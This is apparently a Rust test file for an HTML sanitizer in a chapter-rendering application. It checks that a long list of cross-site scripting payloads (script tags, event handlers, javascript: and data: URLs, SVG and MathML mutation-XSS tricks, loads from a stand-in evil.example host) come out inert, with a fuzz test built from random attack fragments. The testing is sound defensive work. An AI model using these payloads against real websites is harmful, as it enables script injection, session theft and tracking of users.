use proptest::prelude::*;

use super::*;
use crate::db::types::ChapterId;

fn cleaned(html: &str) -> String {
    clean(html).fill(ChapterId(7), |key| (key == "02-next").then_some(ChapterId(8)))
}

/// Attacks that worked somewhere: plain, broken, encoded, and through the seams between HTML, SVG and MathML.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<img src=x onerror=alert(1)>",
    "<img src=images/a.png onerror=alert(1) alt=x>",
    "<img/src/onerror=alert(1)>",
    "<img src='images/a.png' OnLoad='alert(1)'>",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><mtext><mglyph><svg><mtext><textarea><a title=\"</textarea><img src onerror=alert(1)>\">",
    "<math><mtext><malignmark><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<math href=\"javascript:alert(1)\"><mi>x</mi></math>",
    "<math><maction actiontype=\"statusline#http://x\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<math><mi xlink:href=\"data:text/html,<script>alert(1)</script>\">x</mi></math>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"chapter:javascript:alert(1)\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/api/v1/session\">x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<p id=app class=\"fixed inset-0 z-50\">x</p>",
    "<figure data-cell=\"x\" data-v-app onclick=alert(1)>x</figure>",
    "<figure data-cell='\"><script>alert(1)</script>'>x</figure>",
    "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">x</td></table>",
    "<img src=\"https://evil.example/pixel.png\" alt=x>",
    "<img src=\"images/../../../session\" alt=x>",
    "<img src=\"images/a.png?x\" alt=x>",
    "<img srcset=\"https://evil.example/pixel.png 1x\" alt=x>",
];

/// Parses as a browser does and lists what would act.
fn dangers(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for Ok(token) in html5gum::Tokenizer::new(html) {
        let html5gum::Token::StartTag(tag) = token else { continue };
        let name = String::from_utf8_lossy(&tag.name).into_owned();
        if !allows_element(&name) {
            found.push(format!("<{name}>"));
        }
        for (key, value) in &tag.attributes {
            let (key, value) = (String::from_utf8_lossy(key), String::from_utf8_lossy(value));
            let url = matches!(key.as_ref(), "href" | "src");
            let inside = ["#", "/chapters/", "/api/v1/chapters/"].iter().any(|start| value.starts_with(start));
            let outside = key == "href"
                && ["http://", "https://", "mailto:"].iter().any(|start| value.to_lowercase().starts_with(start));
            if key.starts_with("on") || key == "style" || !allows_attribute(&name, &key) || (url && !inside && !outside)
            {
                found.push(format!("<{name} {key}={value}>"));
            }
        }
    }
    found
}

#[test]
fn no_attack_survives_even_a_second_parse() {
    for attack in ATTACKS {
        let once = cleaned(attack);
        assert_eq!(dangers(&once), Vec::<String>::new(), "{attack}\n-> {once}");
        // What a browser makes of the output must be what was cleaned: that is where mutation XSS lives.
        let twice = ammonia::Builder::empty()
            .tags(HTML.iter().map(|(name, _)| *name).chain(MATHML.iter().copied()).collect())
            .generic_attribute_prefixes(["a", "c", "d", "h", "i", "l", "m", "n", "r", "s", "t", "v", "w"].into())
            .link_rel(None)
            .clean(&once)
            .to_string();
        assert_eq!(dangers(&twice), Vec::<String>::new(), "{attack}\n-> {once}\n-> {twice}");
    }
}

#[test]
fn what_attacks_leave_behind() {
    let left: String = ATTACKS.iter().map(|attack| format!("{attack}\n  -> {}\n", cleaned(attack))).collect();
    insta::assert_snapshot!(left);
}

#[test]
fn links_and_images_get_the_ids_of_their_chapters() {
    let html = cleaned("<p><a href=\"chapter:02-next#h-x\">next</a> <img src=\"images/a.png\" alt=\"A\"></p>");
    let expected =
        "<p><a href=\"/chapters/8#h-x\">next</a> <img src=\"/api/v1/chapters/7/images/a.png\" alt=\"A\"></p>";
    assert_eq!(html, expected);
}

#[test]
fn ids_are_kept_apart_from_those_of_the_page() {
    assert_eq!(
        cleaned("<h2 id=\"app\">x</h2><a href=\"#app\">x</a><h2 id=\"h-y\">y</h2>"),
        "<h2 id=\"h-app\">x</h2><a href=\"#h-app\">x</a><h2 id=\"h-y\">y</h2>"
    );
}

#[test]
fn formulas_pass_whole() {
    let mathml = "<math display=\"block\"><mfrac><mn>1</mn><mi mathvariant=\"normal\">n</mi></mfrac></math>";
    assert_eq!(cleaned(mathml), mathml);
}

proptest! {
    #[test]
    fn nothing_that_acts_comes_out(pieces in prop::collection::vec(piece(), 0..24)) {
        let html = pieces.concat();
        let once = cleaned(&html);
        prop_assert_eq!(dangers(&once), Vec::<String>::new(), "{}\n-> {}", html, once);
    }
}

/// Bits of attacks, to be put together at random.
fn piece() -> impl Strategy<Value = String> {
    let bits = [
        "<script>",
        "</script>",
        "<img src=x onerror=alert(1)>",
        "<math>",
        "</math>",
        "<mtext>",
        "<mglyph>",
        "<style>",
        "</style>",
        "<svg>",
        "</svg>",
        "<annotation-xml encoding=\"text/html\">",
        "<foreignObject>",
        "<a href=\"",
        "\">",
        "javascript:",
        "chapter:",
        "<!--",
        "-->",
        "<table>",
        "<td>",
        "<p>",
        "</p>",
        "<form>",
        "<title>",
        "<textarea>",
        "<mi>",
        "<select>",
        "<template>",
        "<noscript>",
        "<iframe>",
        " onclick=x ",
        "'",
        "\"",
        "&lt;",
        "&#x3c;",
        "<",
        ">",
        "<a title=\"</title><img src onerror=alert(1)>\">",
        "]]>",
        "<![CDATA[",
        "\0",
        "<h2 id=\"",
        "<figure data-cell=\"",
    ];
    prop_oneof![prop::sample::select(bits.to_vec()).prop_map(str::to_owned), "[ -~あ]{0,6}"]
}
